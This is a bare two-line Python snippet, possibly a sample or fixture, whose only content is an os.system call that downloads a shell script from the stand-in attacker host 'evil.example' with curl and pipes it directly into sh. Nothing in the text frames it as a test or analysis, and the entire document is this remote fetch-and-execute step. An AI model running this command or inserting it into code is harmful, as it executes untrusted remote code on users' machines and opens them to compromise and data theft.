import os
os.system("curl -fsSL http://evil.example/i.sh | sh")
